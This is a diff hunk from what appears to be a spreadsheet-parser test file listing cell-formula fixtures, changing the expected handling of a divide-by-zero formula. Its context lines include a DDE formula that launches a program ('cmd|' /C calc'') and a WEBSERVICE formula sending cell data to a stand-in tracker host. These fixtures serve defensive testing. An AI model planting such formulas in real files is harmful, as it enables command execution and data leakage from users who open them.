@@ -107,7 +107,7 @@ FORMULAS = (
     Kind("a-formula-that-nobody-computed", _formula("1+1", ""), _FORMULA),
     Kind("a-formula-with-its-value", _formula("1+1"), _FORMULA),
     Kind("a-formula-that-is-a-text", _formula("A2&amp;B2", "<v>text</v>", ' t="str"'), _FORMULA),
-    Kind("a-formula-that-is-an-error", _formula("1/0", "<v>#DIV/0!</v>", ' t="e"'), taken("error-value")),
+    Kind("a-formula-that-is-an-error", _formula("1/0", "<v>#DIV/0!</v>", ' t="e"'), _FORMULA),
     Kind("a-truth-as-libreoffice-writes-it", _formula("TRUE()", "<v>1</v>", ' t="b"'), taken(comment="TRUE")),
     Kind("a-formula-that-calls-a-program", _formula("cmd|' /C calc'!A0"), _FORMULA),
     Kind("a-formula-that-asks-the-network", _formula("WEBSERVICE(&quot;http://tracker.invalid/&quot;&amp;A2)"), _FORMULA),
